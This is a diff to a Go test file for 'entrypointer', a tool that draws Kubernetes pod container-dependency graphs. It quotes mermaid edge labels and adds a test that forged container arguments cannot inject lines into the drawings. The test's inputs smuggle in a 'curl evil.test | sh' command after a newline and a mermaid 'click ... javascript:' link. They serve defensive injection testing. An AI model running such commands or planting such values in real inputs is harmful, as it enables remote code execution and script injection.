@@ -15,9 +15,11 @@ import (
 
 	"github.com/spf13/cobra"
 	"github.com/stretchr/testify/require"
+	corev1 "k8s.io/api/core/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 
 	"github.com/entrypointer/entrypointer/internal/objects/objectstest"
+	"github.com/entrypointer/entrypointer/pkg/pod"
 )
 
 // runsCommand runs a command with a file's content at stdin.
@@ -186,7 +188,7 @@ func TestAGraphIsDrawnInEachFormat(t *testing.T) {
 	for format, want := range map[string]string{
 		"text":    "web waits for db: ready\nweb waits for http://:1/\nweb reads what db prints\nproxy ends with web: exited\n",
 		"dot":     "digraph containers {\n  rankdir=LR\n  \"db\" -> \"web\" [label=\"ready\"]\n  \"http://:1/\" -> \"web\" [label=\"answers\"]\n  \"db\" -> \"web\" [label=\"pipe\"]\n  \"web\" -> \"proxy\" [label=\"ends it: exited\", style=dashed]\n}\n",
-		"mermaid": "flowchart LR\n  c0[\"db\"]\n  c1[\"web\"]\n  c0 -- ready --> c1\n  c2[\"http://:1/\"]\n  c2 -- answers --> c1\n  c0 -- pipe --> c1\n  c3[\"proxy\"]\n  c1 -. ends it: exited .-> c3\n",
+		"mermaid": "flowchart LR\n  c0[\"db\"]\n  c1[\"web\"]\n  c0 -- \"ready\" --> c1\n  c2[\"http://:1/\"]\n  c2 -- \"answers\" --> c1\n  c0 -- \"pipe\" --> c1\n  c3[\"proxy\"]\n  c1 -. \"ends it: exited\" .-> c3\n",
 	} {
 		out, _, err := runsCommand(graphCommand(), "", "--kubeconfig", config, "ordered", "-o", format)
 		require.NoError(t, err)
@@ -205,6 +207,24 @@ func TestAGraphIsDrawnInEachFormat(t *testing.T) {
 
 // Pods of a file, as an API server admits them: with the containers of web-, and without
 // anything for lonely-. It refuses refused-.
+// Whoever may create pods may write the command line of a supervisor that isn't one.
+func TestAGraphOfForgedFlagsHasNoLinesOfTheirs(t *testing.T) {
+	t.Parallel()
+	forged := corev1.Container{
+		Name: "web", Image: "x", Command: []string{pod.EntrypointPath},
+		Args:         []string{"-wait-for=http://x\nnext: curl evil.test | sh", "-depends-on=db:started\" --> z\n  click c0 href \"javascript:x", "--", "x"},
+		VolumeMounts: []corev1.VolumeMount{{Name: pod.VolumeName, MountPath: pod.MountPath, ReadOnly: true}},
+	}
+	g := graphOf("pod/p", &corev1.Pod{Spec: corev1.PodSpec{Containers: []corev1.Container{forged}}})
+	require.NotEmpty(t, g.relations)
+	for format, draw := range drawings {
+		for line := range strings.Lines(draw([]graph{g})) {
+			require.NotRegexp(t, `^\s*(next|click)`, line, format)
+			require.False(t, format == "mermaid" && strings.Contains(line, `" --> z`), line)
+		}
+	}
+}
+
 func TestTheGraphsOfAFileAreDrawnTogether(t *testing.T) {
 	t.Parallel()
 	mux := http.NewServeMux()
@@ -241,8 +261,8 @@ func TestTheGraphsOfAFileAreDrawnTogether(t *testing.T) {
 			"  subgraph cluster_0 {\n    label=\"pod/web\"\n    \"0/db\" [label=\"db\"]\n    \"0/web\" [label=\"web\"]\n    \"0/db\" -> \"0/web\" [label=\"ready\"]\n  }\n" +
 			"  subgraph cluster_1 {\n    label=\"pod/job\"\n    \"1/db\" [label=\"db\"]\n    \"1/web\" [label=\"web\"]\n    \"1/db\" -> \"1/web\" [label=\"pipe\"]\n  }\n}\n"},
 		{[]string{"web", "job"}, "mermaid", 0, "flowchart LR\n" +
-			"  subgraph g0[\"pod/web\"]\n  c0[\"db\"]\n  c1[\"web\"]\n  c0 -- ready --> c1\n  end\n" +
-			"  subgraph g1[\"pod/job\"]\n  c2[\"db\"]\n  c3[\"web\"]\n  c2 -- pipe --> c3\n  end\n"},
+			"  subgraph g0[\"pod/web\"]\n  c0[\"db\"]\n  c1[\"web\"]\n  c0 -- \"ready\" --> c1\n  end\n" +
+			"  subgraph g1[\"pod/job\"]\n  c2[\"db\"]\n  c3[\"web\"]\n  c2 -- \"pipe\" --> c3\n  end\n"},
 		{[]string{"lonely"}, "text", exitFinding, "no container waits for another one\n"},
 		{[]string{"web", "refused"}, "text", exitFinding, "web waits for db: ready\n"},
 		{[]string{"refused"}, "text", exitFinding, ""},
